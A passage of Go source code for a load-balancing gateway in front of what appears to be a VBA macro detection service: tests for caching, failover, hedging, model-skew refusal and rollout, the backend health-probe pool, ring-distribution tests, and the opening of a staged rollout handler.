	"sync/atomic"
	"testing"
	"time"

	"repro/internal/cache"
	"repro/internal/telemetry"
)

// routeKeyOf mirrors the gateway's routing key derivation for tests that
// need to know which backend owns a document.
func routeKeyOf(body []byte) [32]byte { return cache.KeyOf(body) }

// fakeBackend emulates just enough of vbadetectd for gateway unit tests:
// /readyz, /v1/model, /v1/scan, /v1/admin/reload and /metrics, with
// adjustable identity, latency and failure mode. (The e2e test uses the
// real server.Server; these fakes isolate gateway behavior.)
type fakeBackend struct {
	ts       *httptest.Server
	scans    atomic.Int64
	reloads  atomic.Int64
	modelSHA atomic.Pointer[string]
	// nextModelSHA is what a reload flips modelSHA to.
	nextModelSHA string
	scanDelay    time.Duration
	// failScans < 0: refuse all scans with failStatus. > 0: fail that many
	// then recover.
	failScans  atomic.Int64
	failStatus int
	retryAfter string
	verdict    string // raw report JSON returned by /v1/scan
}

func newFakeBackend(t *testing.T, modelSHA string) *fakeBackend {
	t.Helper()
	fb := &fakeBackend{
		failStatus: http.StatusServiceUnavailable,
		verdict:    `{"format":"docm","project":"p","obfuscated":true,"macros":[],"skipped":0,"storage_strings":0,"errors":0}`,
	}
	fb.modelSHA.Store(&modelSHA)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /readyz", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		fmt.Fprint(w, `{"status":"ready"}`)
	})
	mux.HandleFunc("GET /v1/model", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{
			"model_sha256":   *fb.modelSHA.Load(),
			"feature_set":    "v2",
			"feature_set_id": "fsv2-test",
			"algorithm":      "rf",
		})
	})
	mux.HandleFunc("POST /v1/scan", func(w http.ResponseWriter, r *http.Request) {
		if fb.scanDelay > 0 {
			select {
			case <-time.After(fb.scanDelay):
			case <-r.Context().Done():
				return
			}
		}
		if n := fb.failScans.Load(); n != 0 {
			if n > 0 {
				fb.failScans.Add(-1)
			}
			if fb.retryAfter != "" {
				w.Header().Set("Retry-After", fb.retryAfter)
			}
			w.WriteHeader(fb.failStatus)
			fmt.Fprint(w, `{"error":"injected failure"}`)
			return
		}
		fb.scans.Add(1)
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"file":"doc","report":%s,"elapsed_ms":1}`, fb.verdict)
	})
	mux.HandleFunc("POST /v1/admin/reload", func(w http.ResponseWriter, r *http.Request) {
		fb.reloads.Add(1)
		if fb.nextModelSHA != "" {
			sha := fb.nextModelSHA
			fb.modelSHA.Store(&sha)
		}
		fmt.Fprint(w, `{"reloaded":true}`)
	})
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "# HELP vbadetect_scans Total scans.\n# TYPE vbadetect_scans counter\nvbadetect_scans %d\n", fb.scans.Load())
	})
	fb.ts = httptest.NewServer(mux)
	t.Cleanup(fb.ts.Close)
	return fb
}

func (fb *fakeBackend) addr() string {
	return strings.TrimPrefix(fb.ts.URL, "http://")
}

func quietGatewayConfig(backends ...*fakeBackend) Config {
	addrs := make([]string, len(backends))
	for i, b := range backends {
		addrs[i] = b.addr()
	}
	return Config{
		Backends:       addrs,
		HealthInterval: -1, // probe manually from tests
		HedgeAfter:     -1, // hedging off unless a test enables it
		Logger:         slog.New(slog.NewTextHandler(io.Discard, nil)),
	}
}

func newTestGateway(t *testing.T, cfg Config) (*Gateway, *httptest.Server) {
	t.Helper()
	gw, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	gw.Start()
	t.Cleanup(gw.Close)
	ts := httptest.NewServer(gw.Handler())
	t.Cleanup(ts.Close)
	return gw, ts
}

func gwScan(t *testing.T, url string, body []byte) (*http.Response, gatewayScanResponse) {
	t.Helper()
	resp, err := http.Post(url+"/v1/scan", "application/octet-stream", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var sr gatewayScanResponse
	if err := json.NewDecoder(resp.Body).Decode(&sr); err != nil {
		t.Fatalf("decoding scan response: %v", err)
	}
	return resp, sr
}

// TestGatewaySharedCache: the second scan of the same document is served
// from the shared verdict tier — backend scan counters do not move, the
// report bytes are identical, and the response is marked shared_cache.
func TestGatewaySharedCache(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	gw, ts := newTestGateway(t, quietGatewayConfig(b1, b2))

	if gw.Target() == nil {
		t.Fatal("fleet target unresolved after Start's probe pass")
	}
	doc := []byte("shared-cache-document")
	resp, first := gwScan(t, ts.URL, doc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("first scan = %d", resp.StatusCode)
	}
	if first.SharedCache {
		t.Fatal("first scan claims a shared-cache hit")
	}
	scansBefore := b1.scans.Load() + b2.scans.Load()
	if scansBefore != 1 {
		t.Fatalf("first scan touched %d backends, want 1", scansBefore)
	}
	resp, second := gwScan(t, ts.URL, doc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("second scan = %d", resp.StatusCode)
	}
	if !second.SharedCache || !second.Cached {
		t.Errorf("second scan not from shared tier: shared=%v cached=%v", second.SharedCache, second.Cached)
	}
	if got := b1.scans.Load() + b2.scans.Load(); got != scansBefore {
		t.Errorf("shared-cache hit touched a backend: scans %d -> %d", scansBefore, got)
	}
	if !bytes.Equal(first.Report, second.Report) {
		t.Errorf("cached report differs:\n first=%s\nsecond=%s", first.Report, second.Report)
	}
	if second.Backend != first.Backend {
		t.Errorf("cached response attributes backend %q, original %q", second.Backend, first.Backend)
	}
}

// TestGatewayRouteAffinity: the same document always routes to the same
// backend (with the cache disabled so every request actually routes).
func TestGatewayRouteAffinity(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	cfg := quietGatewayConfig(b1, b2)
	cfg.CacheEntries = -1
	cfg.LoadBoundFactor = -1
	_, ts := newTestGateway(t, cfg)

	doc := []byte("affinity-document")
	for i := 0; i < 5; i++ {
		if resp, _ := gwScan(t, ts.URL, doc); resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d = %d", i, resp.StatusCode)
		}
	}
	s1, s2 := b1.scans.Load(), b2.scans.Load()
	if s1+s2 != 5 || (s1 != 0 && s2 != 0) {
		t.Errorf("affinity broken: backend scans %d/%d, want 5/0 or 0/5", s1, s2)
	}
}

// TestGatewayFailover: the primary refuses every scan with 503; the
// request transparently fails over to the next ring node and succeeds.
func TestGatewayFailover(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	cfg := quietGatewayConfig(b1, b2)
	cfg.CacheEntries = -1
	gw, ts := newTestGateway(t, cfg)

	doc := []byte("failover-document")
	primary := gw.ring.Owner(routeKeyOf(doc))
	for _, b := range []*fakeBackend{b1, b2} {
		if b.addr() == primary {
			b.failScans.Store(-1)
		}
	}
	resp, sr := gwScan(t, ts.URL, doc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("scan with dead primary = %d", resp.StatusCode)
	}
	if sr.Backend == primary {
		t.Errorf("response served by the failing primary %s", primary)
	}
	if got := gw.metrics.Failovers.Value(); got == 0 {
		t.Error("fleet_failovers did not increment")
	}
}

// TestGatewayHedge: a slow primary is hedged to the next ring node after
// the fixed hedge budget; the fast secondary's answer wins.
func TestGatewayHedge(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	cfg := quietGatewayConfig(b1, b2)
	cfg.CacheEntries = -1
	cfg.HedgeAfter = 20 * time.Millisecond
	gw, ts := newTestGateway(t, cfg)

	doc := []byte("hedge-document")
	primary := gw.ring.Owner(routeKeyOf(doc))
	var slow, fast *fakeBackend
	if b1.addr() == primary {
		slow, fast = b1, b2
	} else {
		slow, fast = b2, b1
	}
	slow.scanDelay = 2 * time.Second

	start := time.Now()
	resp, sr := gwScan(t, ts.URL, doc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("hedged scan = %d", resp.StatusCode)
	}
	if sr.Backend != fast.addr() {
		t.Errorf("winner = %q, want the hedged backend %q", sr.Backend, fast.addr())
	}
	if elapsed := time.Since(start); elapsed > time.Second {
		t.Errorf("hedged scan took %v — waited out the slow primary", elapsed)
	}
	if gw.metrics.Hedges.Value() == 0 || gw.metrics.HedgeWins.Value() == 0 {
		t.Errorf("hedge metrics: hedges=%d wins=%d, want both > 0",
			gw.metrics.Hedges.Value(), gw.metrics.HedgeWins.Value())
	}
}

// TestGatewayRetryAfterHonored: a backend answering 429 with Retry-After
// is benched for that long — subsequent scans route elsewhere without
// waiting for a health probe.
func TestGatewayRetryAfterHonored(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	cfg := quietGatewayConfig(b1, b2)
	cfg.CacheEntries = -1
	gw, ts := newTestGateway(t, cfg)

	doc := []byte("retry-after-document")
	primary := gw.ring.Owner(routeKeyOf(doc))
	var sat *fakeBackend
	for _, b := range []*fakeBackend{b1, b2} {
		if b.addr() == primary {
			sat = b
		}
	}
	sat.failStatus = http.StatusTooManyRequests
	sat.retryAfter = "30"
	sat.failScans.Store(1) // one 429, then healthy again

	resp, sr := gwScan(t, ts.URL, doc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("scan = %d", resp.StatusCode)
	}
	if sr.Backend == primary {
		t.Errorf("served by the saturated primary")
	}
	if gw.metrics.RetryAfterBackoffs.Value() == 0 {
		t.Error("fleet_retry_after_backoffs did not increment")
	}
	// The bench outlasts the failure: the primary is healthy again but
	// still not routable until the 30s Retry-After window passes.
	if gw.byName[primary].routable(time.Now()) {
		t.Error("primary routable before its Retry-After window elapsed")
	}
	resp2, sr2 := gwScan(t, ts.URL, doc)
	if resp2.StatusCode != http.StatusOK || sr2.Backend == primary {
		t.Errorf("second scan status=%d backend=%q, want 200 from the other node",
			resp2.StatusCode, sr2.Backend)
	}
}

// TestGatewaySkewRefusal: a backend whose model identity differs from the
// fleet majority is demoted to skewed and receives no traffic.
func TestGatewaySkewRefusal(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	b3 := newFakeBackend(t, "bbb2") // skewed minority
	cfg := quietGatewayConfig(b1, b2, b3)
	cfg.CacheEntries = -1
	gw, ts := newTestGateway(t, cfg)

	st, reason, _, _ := gw.byName[b3.addr()].snapshot()
	if st != stateSkewed {
		t.Fatalf("minority backend state = %s (%s), want skewed", st, reason)
	}
	if gw.metrics.SkewRefusals.Value() == 0 {
		t.Error("fleet_skew_refusals did not increment")
	}
	for i := 0; i < 20; i++ {
		doc := []byte(fmt.Sprintf("skew-doc-%d", i))
		if resp, _ := gwScan(t, ts.URL, doc); resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d = %d", i, resp.StatusCode)
		}
	}
	if got := b3.scans.Load(); got != 0 {
		t.Errorf("skewed backend served %d scans, want 0", got)
	}
}

// TestGatewayRollout: a staged rollout reloads every backend in order,
// promotes the new identity as the fleet target, and the shared tier's
// salt flips so pre-rollout verdicts no longer answer.
func TestGatewayRollout(t *testing.T) {
	b1 := newFakeBackend(t, "old1")
	b2 := newFakeBackend(t, "old1")
	b1.nextModelSHA, b2.nextModelSHA = "new2", "new2"
	gw, ts := newTestGateway(t, quietGatewayConfig(b1, b2))

	doc := []byte("rollout-document")
	gwScan(t, ts.URL, doc)
	gwScan(t, ts.URL, doc) // populate shared tier under the old identity

	resp, err := http.Post(ts.URL+"/v1/admin/rollout", "application/json", nil)
	if err != nil {
		t.Fatal(err)
	}
	var rr rolloutResponse
	if err := json.NewDecoder(resp.Body).Decode(&rr); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || rr.Status != "complete" {
		t.Fatalf("rollout = %d %q (%s)", resp.StatusCode, rr.Status, rr.Error)
	}
	if b1.reloads.Load() != 1 || b2.reloads.Load() != 1 {
		t.Errorf("reloads = %d/%d, want 1/1", b1.reloads.Load(), b2.reloads.Load())
	}
	if target := gw.Target(); target == nil || target.ModelSHA256 != "new2" {
		t.Fatalf("fleet target after rollout = %+v, want model new2", target)
	}
	// The same document must re-scan: its pre-rollout verdict was keyed
	// under the old identity's salt.
	scansBefore := b1.scans.Load() + b2.scans.Load()
	_, sr := gwScan(t, ts.URL, doc)
	if sr.SharedCache {
		t.Error("post-rollout scan answered from the pre-rollout shared tier")
	}
	if got := b1.scans.Load() + b2.scans.Load(); got != scansBefore+1 {
		t.Errorf("post-rollout scan did not reach a backend (scans %d -> %d)", scansBefore, got)
	}
}

// TestGatewayRolloutSkewAbort: a backend that reloads to the wrong model
// aborts the rollout with 409 and is refused traffic afterward.
func TestGatewayRolloutSkewAbort(t *testing.T) {
	b1 := newFakeBackend(t, "old1")
	b2 := newFakeBackend(t, "old1")
	b1.nextModelSHA = "new2"
	b2.nextModelSHA = "wrong3" // stale model file on this node
	gw, ts := newTestGateway(t, quietGatewayConfig(b1, b2))

	resp, err := http.Post(ts.URL+"/v1/admin/rollout", "application/json", nil)
	if err != nil {
		t.Fatal(err)
	}
	var rr rolloutResponse
	if err := json.NewDecoder(resp.Body).Decode(&rr); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusConflict {
		t.Fatalf("skewed rollout = %d, want 409", resp.StatusCode)
	}
	if rr.Status != "aborted" {
		t.Errorf("rollout status = %q, want aborted", rr.Status)
	}
	var skewedStep *rolloutStep
	for i := range rr.Steps {
		if rr.Steps[i].Status == "skewed" {
			skewedStep = &rr.Steps[i]
		}
	}
	if skewedStep == nil {
		t.Fatalf("no skewed step in report: %+v", rr.Steps)
	}
	st, _, _, _ := gw.byName[b2.addr()].snapshot()
	if st != stateSkewed {
		t.Errorf("skew-reloaded backend state = %s, want skewed", st)
	}
	// Traffic continues on the promoted node only.
	for i := 0; i < 10; i++ {
		doc := []byte(fmt.Sprintf("post-abort-%d", i))
		if resp, sr := gwScan(t, ts.URL, doc); resp.StatusCode != http.StatusOK || sr.Backend != b1.addr() {
			t.Fatalf("scan %d: status=%d backend=%q, want 200 from %q",
				i, resp.StatusCode, sr.Backend, b1.addr())
		}
	}
}

// TestGatewayMergedMetrics: the Prometheus view of /metrics merges every
// backend's families under a backend label and stays structurally valid
// per the repo's own exposition parser (the promlint contract).
func TestGatewayMergedMetrics(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	b2 := newFakeBackend(t, "aaa1")
	_, ts := newTestGateway(t, quietGatewayConfig(b1, b2))

	gwScan(t, ts.URL, []byte("metrics-document"))

	resp, err := http.Get(ts.URL + "/metrics?format=prometheus")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	sum, err := telemetry.ParseExposition(body)
	if err != nil {
		t.Fatalf("merged exposition does not parse: %v\n%s", err, body)
	}
	if sum.Families["vbadetect_scans"] != "counter" {
		t.Error("backend family vbadetect_scans missing from merged exposition")
	}
	if sum.Families["fleet_scans"] != "counter" {
		t.Error("gateway family fleet_scans missing from merged exposition")
	}
	backendsSeen := sum.LabelValues["vbadetect_scans"]["backend"]
	if len(backendsSeen) != 2 {
		t.Errorf("vbadetect_scans carries %d backend label values, want 2: %v",
			len(backendsSeen), backendsSeen)
	}
	// The exposition text must declare each family once, even though two
	// backends contributed samples.
	if n := bytes.Count(body, []byte("# TYPE vbadetect_scans ")); n != 1 {
		t.Errorf("TYPE vbadetect_scans declared %d times, want 1", n)
	}
	// JSON default view still works.
	resp, err = http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
		t.Fatalf("JSON metrics: %v", err)
	}
	resp.Body.Close()
	if _, ok := m["fleet_verdict_cache_hit_ratio"]; !ok {
		t.Error("JSON metrics missing fleet_verdict_cache_hit_ratio")
	}
}

// TestGatewayReadyz: ready with one routable backend, 503 with none.
func TestGatewayReadyz(t *testing.T) {
	b1 := newFakeBackend(t, "aaa1")
	gw, ts := newTestGateway(t, quietGatewayConfig(b1))

	resp, err := http.Get(ts.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/readyz = %d with a healthy backend", resp.StatusCode)
	}
	b1.ts.Close()
	gw.Probe(t.Context())
	resp, err = http.Get(ts.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("/readyz = %d with no routable backends, want 503", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("unready gateway /readyz missing Retry-After")
	}
}
