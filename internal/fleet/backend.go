// Backend pool: one entry per vbadetectd node, health-checked via the
// node's own /readyz and /v1/model endpoints. A backend is routable only
// when it is reachable, ready, not backing off a Retry-After hint, and
// its model identity matches the fleet target — a skewed backend keeps
// serving its own traffic but the gateway refuses to route to it
// (ErrFeatureSkew semantics, applied at the fleet boundary).

package fleet

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/server"
)

// ErrNoBackends is returned when no configured backend is routable.
var ErrNoBackends = errors.New("fleet: no routable backends")

// backendState is the gateway's view of one node.
type backendState int

const (
	// stateUnknown: never probed successfully.
	stateUnknown backendState = iota
	// stateHealthy: ready and identity-matched; routable.
	stateHealthy
	// stateUnhealthy: unreachable or /readyz failed.
	stateUnhealthy
	// stateDraining: /readyz reports draining — the node is shutting
	// down; stop routing but don't count it as failed.
	stateDraining
	// stateSkewed: model identity differs from the fleet target; refuse
	// to route (a skewed backend would answer with a different model).
	stateSkewed
	// stateRolling: a staged rollout is reloading this node right now.
	stateRolling
)

func (s backendState) String() string {
	switch s {
	case stateHealthy:
		return "healthy"
	case stateUnhealthy:
		return "unhealthy"
	case stateDraining:
		return "draining"
	case stateSkewed:
		return "skewed"
	case stateRolling:
		return "rolling"
	default:
		return "unknown"
	}
}

// backend is one pool entry. Mutable fields are guarded by mu; inflight
// and routed are hot-path atomics.
type backend struct {
	name string // routing identity, e.g. "127.0.0.1:8081"
	base string // base URL, e.g. "http://127.0.0.1:8081"

	inflight atomic.Int64 // requests currently proxied to this backend
	routed   atomic.Int64 // lifetime scans routed here

	mu           sync.Mutex
	state        backendState
	reason       string // operator-facing cause for an unroutable state
	identity     server.ModelResponse
	hasIdentity  bool
	backoffUntil time.Time // Retry-After honor: no routing until then
}

// newBackend normalizes an address ("host:port" or full URL) into a pool
// entry.
func newBackend(addr string) *backend {
	base := addr
	if !strings.Contains(base, "://") {
		base = "http://" + base
	}
	name := strings.TrimPrefix(strings.TrimPrefix(base, "http://"), "https://")
	name = strings.TrimSuffix(name, "/")
	return &backend{name: name, base: strings.TrimSuffix(base, "/")}
}

// routable reports whether the gateway may send a scan here now.
func (b *backend) routable(now time.Time) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.state == stateHealthy && !now.Before(b.backoffUntil)
}

// setState transitions the backend with a reason (kept for /healthz and
// the runbook's fleet_backend_unhealthy alert).
func (b *backend) setState(s backendState, reason string) {
	b.mu.Lock()
	b.state = s
	b.reason = reason
	b.mu.Unlock()
}

// snapshot reads the backend's state for health reporting.
func (b *backend) snapshot() (state backendState, reason string, id server.ModelResponse, hasID bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.state, b.reason, b.identity, b.hasIdentity
}

// honorRetryAfter parses a Retry-After response header (seconds form) and
// suspends routing to this backend for that long. Returns the applied
// backoff (0 when the header was absent or unparsable).
func (b *backend) honorRetryAfter(h http.Header, now time.Time) time.Duration {
	v := h.Get("Retry-After")
	if v == "" {
		return 0
	}
	secs, err := strconv.Atoi(strings.TrimSpace(v))
	if err != nil || secs <= 0 {
		return 0
	}
	d := time.Duration(secs) * time.Second
	b.mu.Lock()
	if until := now.Add(d); until.After(b.backoffUntil) {
		b.backoffUntil = until
	}
	b.mu.Unlock()
	return d
}

// probe refreshes the backend's health and model identity: GET /readyz
// decides reachable/ready/draining, GET /v1/model (only when ready)
// refreshes the identity used for skew detection. The caller applies skew
// policy — probe only reports what the node says about itself.
func (b *backend) probe(ctx context.Context, client *http.Client) error {
	status, body, _, err := get(ctx, client, b.base+"/readyz")
	switch {
	case err != nil:
		b.setState(stateUnhealthy, err.Error())
		return err
	case status == http.StatusOK:
	default:
		var st struct {
			Status string `json:"status"`
		}
		_ = json.Unmarshal(body, &st)
		if st.Status == "draining" {
			b.setState(stateDraining, "backend draining")
			return nil
		}
		b.setState(stateUnhealthy, fmt.Sprintf("readyz %d: %s", status, strings.TrimSpace(st.Status)))
		return nil
	}
	status, body, _, err = get(ctx, client, b.base+"/v1/model")
	if err != nil || status != http.StatusOK {
		if err == nil {
			err = fmt.Errorf("fleet: %s: /v1/model returned %d", b.name, status)
		}
		b.setState(stateUnhealthy, err.Error())
		return err
	}
	var id server.ModelResponse
	if err := json.Unmarshal(body, &id); err != nil {
		b.setState(stateUnhealthy, "bad /v1/model payload: "+err.Error())
		return err
	}
	b.mu.Lock()
	b.identity = id
	b.hasIdentity = true
	// The caller (gateway health pass) decides healthy vs skewed against
	// the fleet target; mark healthy here and let it demote.
	b.state = stateHealthy
	b.reason = ""
	b.mu.Unlock()
	return nil
}

// identityKey is the skew-comparison form of a model identity: the model
// image hash plus the feature-set cache identity. Two backends with equal
// keys produce byte-identical verdicts for the same document.
func identityKey(id server.ModelResponse) string {
	return id.FeatureSetID + "|" + id.ModelSHA256
}

// get issues a GET with the probe client and returns status, body and
// headers. The body is capped — probe endpoints are small.
func get(ctx context.Context, client *http.Client, url string) (int, []byte, http.Header, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return 0, nil, nil, err
	}
	resp, err := client.Do(req)
	if err != nil {
		return 0, nil, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return 0, nil, nil, err
	}
	return resp.StatusCode, body, resp.Header, nil
}
