package fleet

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"sync"
	"testing"
)

// testKey derives a deterministic content key: real route keys are
// document SHA-256s, so hashing a counter reproduces their distribution.
func testKey(i int) [32]byte {
	var seed [8]byte
	binary.BigEndian.PutUint64(seed[:], uint64(i))
	return sha256.Sum256(seed[:])
}

func nodeNames(n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("10.0.0.%d:8080", i+1)
	}
	return names
}

// TestRingDistribution pins the load-balance quality of the vnode layout:
// for every fleet size from 2 to 16 nodes, the busiest node must stay
// within 30% of the mean and the idlest within 30% below it. This is the
// bound the bounded-load factor (1.25) is calibrated against — if vnode
// count or the hash changes and skew grows, routing hot-spots before
// load-bounding kicks in.
func TestRingDistribution(t *testing.T) {
	const keys = 20000
	for n := 2; n <= 16; n++ {
		r := NewRing(DefaultVNodes)
		r.SetNodes(nodeNames(n))
		counts := map[string]int{}
		for i := 0; i < keys; i++ {
			owner := r.Owner(testKey(i))
			if owner == "" {
				t.Fatalf("n=%d: empty owner", n)
			}
			counts[owner]++
		}
		if len(counts) != n {
			t.Fatalf("n=%d: only %d nodes received keys", n, len(counts))
		}
		mean := float64(keys) / float64(n)
		for node, c := range counts {
			ratio := float64(c) / mean
			if ratio > 1.30 || ratio < 0.70 {
				t.Errorf("n=%d: node %s holds %.2f× the mean (%d keys), want within [0.70, 1.30]",
					n, node, ratio, c)
			}
		}
	}
}

// TestRingMovement pins the consistency property: adding one node to an
// n-node ring may move at most ~K/(n+1) keys (2× slack for vnode
// variance), and every moved key must land on the new node — a key moving
// between two surviving nodes would invalidate both nodes' warm caches
// for no reason.
func TestRingMovement(t *testing.T) {
	const keys = 20000
	for n := 2; n <= 8; n++ {
		before := NewRing(DefaultVNodes)
		before.SetNodes(nodeNames(n))
		after := NewRing(DefaultVNodes)
		names := nodeNames(n + 1)
		after.SetNodes(names)
		newNode := names[n]

		moved := 0
		for i := 0; i < keys; i++ {
			k := testKey(i)
			a, b := before.Owner(k), after.Owner(k)
			if a == b {
				continue
			}
			moved++
			if b != newNode {
				t.Fatalf("n=%d: key %d moved %s -> %s, but the added node is %s",
					n, i, a, b, newNode)
			}
		}
		bound := 2 * keys / (n + 1)
		if moved > bound {
			t.Errorf("n=%d->%d: %d keys moved, want <= %d (~K/(n+1) with 2x slack)",
				n, n+1, moved, bound)
		}
		if moved == 0 {
			t.Errorf("n=%d->%d: no keys moved to the new node", n, n+1)
		}
	}
}

// TestRingRemovalMovement is the inverse: removing a node moves exactly
// that node's keys, each to a surviving node, and no key between
// survivors.
func TestRingRemovalMovement(t *testing.T) {
	const keys = 10000
	names := nodeNames(5)
	before := NewRing(DefaultVNodes)
	before.SetNodes(names)
	after := NewRing(DefaultVNodes)
	after.SetNodes(names[:4]) // drop the last node
	removed := names[4]

	for i := 0; i < keys; i++ {
		k := testKey(i)
		a, b := before.Owner(k), after.Owner(k)
		if a == removed {
			if b == removed || b == "" {
				t.Fatalf("key %d still maps to removed node", i)
			}
			continue
		}
		if a != b {
			t.Fatalf("key %d moved %s -> %s though neither is the removed node", i, a, b)
		}
	}
}

// TestRingDeterminism: two independently built rings with the same
// membership route every key identically — a gateway restart (or a second
// gateway instance) must not reshuffle the fleet.
func TestRingDeterminism(t *testing.T) {
	a := NewRing(DefaultVNodes)
	b := NewRing(DefaultVNodes)
	// Same set, different insertion order.
	a.SetNodes([]string{"n1:1", "n2:1", "n3:1"})
	b.SetNodes([]string{"n3:1", "n1:1", "n2:1"})
	for i := 0; i < 5000; i++ {
		k := testKey(i)
		if a.Owner(k) != b.Owner(k) {
			t.Fatalf("key %d: ring A says %s, ring B says %s", i, a.Owner(k), b.Owner(k))
		}
	}
}

// TestRingCandidates checks the failover order: distinct nodes, primary
// first, and at most the full membership.
func TestRingCandidates(t *testing.T) {
	r := NewRing(DefaultVNodes)
	r.SetNodes(nodeNames(4))
	for i := 0; i < 1000; i++ {
		k := testKey(i)
		cands := r.Candidates(k, 10)
		if len(cands) != 4 {
			t.Fatalf("key %d: %d candidates, want 4", i, len(cands))
		}
		if cands[0] != r.Owner(k) {
			t.Fatalf("key %d: first candidate %s != owner %s", i, cands[0], r.Owner(k))
		}
		seen := map[string]bool{}
		for _, c := range cands {
			if seen[c] {
				t.Fatalf("key %d: duplicate candidate %s", i, c)
			}
			seen[c] = true
		}
	}
	if got := r.Candidates(testKey(0), 2); len(got) != 2 {
		t.Fatalf("max=2 returned %d candidates", len(got))
	}
	empty := NewRing(DefaultVNodes)
	if got := empty.Candidates(testKey(0), 3); got != nil {
		t.Fatalf("empty ring returned candidates %v", got)
	}
}

// TestRingConcurrentUpdates drives lookups concurrently with membership
// churn under the race detector: the atomic snapshot swap must never let
// a reader observe a half-built ring (empty or inconsistent results).
func TestRingConcurrentUpdates(t *testing.T) {
	r := NewRing(32)
	r.SetNodes(nodeNames(4))
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				k := testKey(w*100000 + i)
				cands := r.Candidates(k, 3)
				if len(cands) == 0 {
					t.Error("lookup observed an empty ring during update")
					return
				}
				seen := map[string]bool{}
				for _, c := range cands {
					if seen[c] {
						t.Errorf("duplicate candidate %s during update", c)
						return
					}
					seen[c] = true
				}
			}
		}(w)
	}
	for i := 0; i < 200; i++ {
		// Alternate between 3 and 5 nodes: every swap both adds and removes.
		if i%2 == 0 {
			r.SetNodes(nodeNames(5))
		} else {
			r.SetNodes(nodeNames(3))
		}
	}
	close(stop)
	wg.Wait()
}
