// Staged model rollout: POST /v1/admin/rollout walks the backends one at
// a time — reload, verify identity, promote — so the fleet never serves a
// mix of models silently. The operator ships the new model file to every
// node's -model path first (the daemon reload re-reads it from disk);
// the gateway then sequences the reloads and the identity checks.
//
// The first successfully reloaded backend defines the new fleet target.
// Every later backend must come back with the same identity; one that
// does not is marked skewed — the gateway refuses to route to it — and
// the rollout aborts with 409 so the operator sees the divergence instead
// of a half-upgraded fleet.

package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// rolloutStep is one backend's outcome in the rollout report.
type rolloutStep struct {
	Backend     string `json:"backend"`
	Status      string `json:"status"` // reloaded | skipped | failed | skewed
	ModelSHA256 string `json:"model_sha256,omitempty"`
	FeatureSet  string `json:"feature_set,omitempty"`
	Error       string `json:"error,omitempty"`
}

// rolloutResponse is the full staged-rollout report.
type rolloutResponse struct {
	Status string        `json:"status"` // complete | aborted
	Target string        `json:"target_model_sha256,omitempty"`
	Steps  []rolloutStep `json:"steps"`
	Error  string        `json:"error,omitempty"`
}

func (g *Gateway) handleRollout(w http.ResponseWriter, r *http.Request) {
	if !g.rolloutMu.TryLock() {
		w.Header().Set("Retry-After", "5")
		writeJSON(w, http.StatusConflict, map[string]string{"error": "a rollout is already in progress"})
		return
	}
	defer g.rolloutMu.Unlock()

	ctx := r.Context()
	resp := rolloutResponse{Status: "complete"}
	var newTarget *struct {
		key string
		id  string // short SHA for logs
	}
	var adopted string
	for _, b := range g.backends {
		step := g.rolloutOne(ctx, b, &newTarget)
		resp.Steps = append(resp.Steps, step)
		if newTarget != nil && adopted == "" && step.Status == "reloaded" {
			adopted = step.ModelSHA256
		}
		if step.Status == "failed" || step.Status == "skewed" {
			resp.Status = "aborted"
			resp.Error = fmt.Sprintf("backend %s: %s", b.name, firstNonEmpty(step.Error, step.Status))
